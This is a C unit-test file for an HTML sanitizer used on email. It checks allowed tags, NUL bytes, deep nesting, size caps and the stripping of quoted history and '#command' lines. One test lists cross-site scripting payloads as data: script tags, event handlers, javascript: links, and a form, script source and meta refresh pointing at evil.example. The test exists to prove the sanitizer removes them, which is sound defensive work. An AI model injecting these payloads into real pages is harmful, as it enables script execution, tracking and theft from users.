/*
 * test_html_safe.c - unit tests of parsers/html_safe.c
 *
 * Every output is read back by allowed(): each '<' opens a tag of the
 * allow-list, with no attribute but an http/https/mailto href on <a>,
 * and tags are balanced. Hostile inputs (scripts, event handlers,
 * javascript: links, remote images, forms, SVG, meta refresh, unclosed
 * tags, nested comments, NUL bytes, 10 MB of nesting) must give such an
 * output, or GC_ELIMIT at the cap, and never crash.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <cmocka.h>

#include "common/err.h"
#include "common/mem.h"
#include "parsers/html_safe.h"

static const char *const tags[] = { "p", "div", "span", "br", "hr", "b",
	"strong", "i", "em", "u", "s", "ul", "ol", "li", "blockquote", "pre",
	"code", "a", NULL };

static bool
known(const char *name, size_t n)
{
	for (size_t i = 0; tags[i]; i++)
		if (strlen(tags[i]) == n && memcmp(tags[i], name, n) == 0)
			return true;
	return false;
}

/* The output holds only allowed tags, balanced. */
static void
allowed(const char *s)
{
	int depth = 0;

	for (const char *p = strchr(s, '<'); p; p = strchr(p + 1, '<')) {
		bool close = p[1] == '/';
		const char *name = p + 1 + close, *e = name;

		while (*e >= 'a' && *e <= 'z')
			e++;
		assert_true(known(name, (size_t)(e - name)));
		if (*e == ' ') {
			assert_false(close);
			assert_true(e - name == 1 && *name == 'a');
			assert_true(strncasecmp(e, " href=\"http://", 14) == 0 ||
			    strncasecmp(e, " href=\"https://", 15) == 0 ||
			    strncasecmp(e, " href=\"mailto:", 14) == 0);
			e = strchr(e + 7, '"');
			assert_non_null(e);
			e++;
		}
		assert_int_equal(*e, '>');
		if (strncmp(name, "br", 2) == 0 || strncmp(name, "hr", 2) == 0)
			continue;
		depth += close ? -1 : 1;
		assert_true(depth >= 0);
	}
	assert_int_equal(depth, 0);
	assert_null(strchr(s, '\0' + 1));
}

static char *
safe(struct arena *a, const char *html, size_t len, unsigned flags)
{
	char *out = NULL;

	assert_int_equal(html_safe(&out, a, html, len, 16 << 20, flags), 0);
	assert_non_null(out);
	allowed(out);
	return out;
}

static void
test_formatting_kept(void **state)
{
	struct arena a;
	char *o;

	(void)state;
	arena_init(&a, 4096);
	{
		static const char in[] = "<p>Hello <b>bold</b> <i>it</i> "
		    "<em>em</em></p><ul><li>one</li><li>two</li></ul><ol><li>x"
		    "</li></ol><blockquote>q</blockquote><a href=\"https://"
		    "ex.example/a?b=1&amp;c=2\" target=_blank style=\"color:"
		    "red\">link</a> <a href=\"MAILTO:x@y.example\">m</a>";

		o = safe(&a, in, sizeof(in) - 1, 0);
	}
	assert_non_null(strstr(o, "<p>Hello <b>bold</b> <i>it</i> "
	    "<em>em</em></p>"));
	assert_non_null(strstr(o, "<ul><li>one</li><li>two</li></ul>"));
	assert_non_null(strstr(o, "<blockquote>q</blockquote>"));
	assert_non_null(strstr(o, "<a href=\"https://ex.example/a?b=1&amp;"
	    "c=2\">link</a>"));
	assert_non_null(strstr(o, "<a href=\"MAILTO:x@y.example\">m</a>"));
	assert_null(strstr(o, "target"));
	assert_null(strstr(o, "style"));
	arena_free(&a);
}

static void
test_active_dropped(void **state)
{
	static const char *const evil[] = {
		"<script>alert(1)</script>",
		"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
		"<img src=x onerror=alert(1)>",
		"<img src=\"http://evil.example/track.png\">",
		"<a href=\"javascript:alert(1)\">j</a>",
		"<a href=\" jav&#x09;ascript:alert(1)\">j</a>",
		"<a href=\"data:text/html;base64,PHNjcmlwdD4=\">d</a>",
		"<a href=\"vbscript:x\">v</a>",
		"<div onclick=\"alert(1)\" onmouseover=x>t</div>",
		"<style>body{background:url(http://evil.example/)}</style>",
		"<p style=\"background:url(http://evil.example/)\">s</p>",
		"<form action=http://evil.example><input name=p>"
		    "<button>go</button></form>",
		"<iframe src=http://evil.example></iframe>",
		"<svg><script>alert(1)</script><a xlink:href=javascript:x>"
		    "</a></svg>",
		"<math><mi xlink:href=javascript:x>m</mi></math>",
		"<meta http-equiv=refresh content=\"0;url=http://evil.example\">",
		"<object data=x.swf></object><embed src=x.swf>",
		"<base href=http://evil.example/><link rel=stylesheet href=x>",
		"<<script>script>alert(1)<</script>/script>",
		"<!-- <script>alert(1)</script> --><!-- a <!-- b --> c -->",
		"<scr<!-- -->ipt>alert(1)</script>",
		"<p>unclosed <b>bold <i>both <ul><li>item",
		"</p></div></b>stray closers",
		"<img src=cid:logo@x>",
		"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"
		    "</noscript>",
		NULL };
	struct arena a;

	(void)state;
	arena_init(&a, 4096);
	for (size_t i = 0; evil[i]; i++) {
		char *o = safe(&a, evil[i], strlen(evil[i]), 0);

		assert_null(strstr(o, "<script"));
		assert_null(strstr(o, "javascript:\""));
		assert_null(strstr(o, "href=\"java"));
		assert_null(strstr(o, "href=\" jav"));
		assert_null(strstr(o, "<img"));
		assert_null(strstr(o, "url("));
		assert_null(strstr(o, "onerror="));
		assert_null(strstr(o, "onclick"));
		assert_null(strstr(o, "<form"));
		assert_null(strstr(o, "<iframe"));
		assert_null(strstr(o, "<svg"));
		assert_null(strstr(o, "<meta"));
	}
	/* a lone text keeps its words, escaped */
	assert_non_null(strstr(safe(&a, "a < b & \"c\"", 11, 0),
	    ">a &lt; b &amp; &quot;c&quot;<"));
	/* a cid: image becomes a reference to the attachment, a remote one
	 * nothing */
	assert_non_null(strstr(safe(&a, "<img src=\"cid:logo@x\">", 22, 0),
	    "[image: logo@x]"));
	arena_free(&a);
}

static void
test_nul_and_invalid_bytes(void **state)
{
	static const char in[] = "<b>a\0<script>x</script>b</b>\xff\xfe<i>c";
	struct arena a;
	char *o;

	(void)state;
	arena_init(&a, 4096);
	o = safe(&a, in, sizeof(in) - 1, 0);
	assert_null(strstr(o, "<script"));
	assert_non_null(strstr(o, "<b>"));
	assert_non_null(strstr(o, "\xef\xbf\xbd"));     /* U+FFFD */
	arena_free(&a);
}

/* 10 MB of nesting, unclosed and closed: no crash, output bounded and
 * balanced; the kept depth is capped. */
static void
test_deep_nesting(void **state)
{
	size_t n = 10 * 1024 * 1024, k = n / 3;
	char *in = malloc(n + 1), *o;
	struct arena a;
	int depth = 0, max = 0;

	(void)state;
	arena_init(&a, 1 << 20);
	for (size_t i = 0; i < k; i++)
		memcpy(in + 3 * i, "<b>", 3);
	o = safe(&a, in, 3 * k, 0);
	for (const char *p = o; *p; p++) {
		if (p[0] == '<' && p[1] == 'b')
			depth++;
		else if (p[0] == '<' && p[1] == '/')
			depth--;
		if (depth > max)
			max = depth;
	}
	assert_true(max <= HTML_SAFE_MAX_NEST);
	for (size_t i = 0; i + 5 <= n; i += 5)
		memcpy(in + i, "<div>", 5);
	(void)safe(&a, in, n - n % 5, 0);
	for (size_t i = 0; i + 7 <= n; i += 7)
		memcpy(in + i, "<!--<!-", 7);
	(void)safe(&a, in, n - n % 7, 0);
	/* the cap holds */
	memset(in, '&', n);
	{
		char *out = (char *)1;

		assert_int_equal(html_safe(&out, &a, in, n, 1 << 20, 0),
		    GC_ELIMIT);
		assert_null(out);
	}
	free(in);
	arena_free(&a);
}

static void
test_history_and_commands(void **state)
{
	static const char reply[] =
	    "<div dir=ltr><div>#close</div><div>#priority P2</div><div><br>"
	    "</div><div>Hello <b>Claire</b>,</div><div>fixed.</div>"
	    "<div class=\"gmail_quote\"><div class=\"gmail_attr\">On Thu "
	    "wrote:</div><blockquote class=\"gmail_quote\">secret history"
	    "</blockquote></div></div>";
	static const char outlook[] =
	    "<p>Answer</p><div id=\"appendonsend\"></div><hr>"
	    "<div id=\"divRplyFwdMsg\"><b>From:</b> x</div><div>old text</div>";
	static const char apple[] =
	    "<p>#resolve</p><p>Done</p><blockquote type=\"cite\">old</blockquote>"
	    "<p>#not a command after text</p>";
	unsigned f = HTML_SAFE_NO_HISTORY | HTML_SAFE_NO_COMMANDS;
	struct arena a;
	char *o;

	(void)state;
	arena_init(&a, 4096);
	o = safe(&a, reply, sizeof(reply) - 1, f);
	assert_null(strstr(o, "#close"));
	assert_null(strstr(o, "#priority"));
	assert_null(strstr(o, "secret history"));
	assert_null(strstr(o, "wrote"));
	assert_non_null(strstr(o, "Hello <b>Claire</b>,"));
	o = safe(&a, outlook, sizeof(outlook) - 1, f);
	assert_non_null(strstr(o, "Answer"));
	assert_null(strstr(o, "From:"));
	assert_null(strstr(o, "old text"));
	o = safe(&a, apple, sizeof(apple) - 1, f);
	assert_null(strstr(o, "#resolve"));
	assert_null(strstr(o, "old"));
	assert_non_null(strstr(o, "Done"));
	assert_non_null(strstr(o, "#not a command after text"));
	/* a command line goes on across inline elements, to the line's end */
	{
		static const char split[] = "<div>#assign <b>bob</b> <i>now"
		    "</i></div><div>#priority P2<br>Hello <b>you</b></div>"
		    "<p>#tag <span>x</span>\nstill here</p>";

		o = safe(&a, split, sizeof(split) - 1, f);
		assert_null(strstr(o, "bob"));
		assert_null(strstr(o, "now"));
		assert_null(strstr(o, "#priority"));
		assert_non_null(strstr(o, "Hello <b>you</b>"));
		assert_non_null(strstr(o, "#tag"));
	}
	/* without the flags, all is there */
	o = safe(&a, reply, sizeof(reply) - 1, 0);
	assert_non_null(strstr(o, "#close"));
	assert_non_null(strstr(o, "secret history"));
	arena_free(&a);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_formatting_kept),
		cmocka_unit_test(test_active_dropped),
		cmocka_unit_test(test_nul_and_invalid_bytes),
		cmocka_unit_test(test_deep_nesting),
		cmocka_unit_test(test_history_and_commands),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
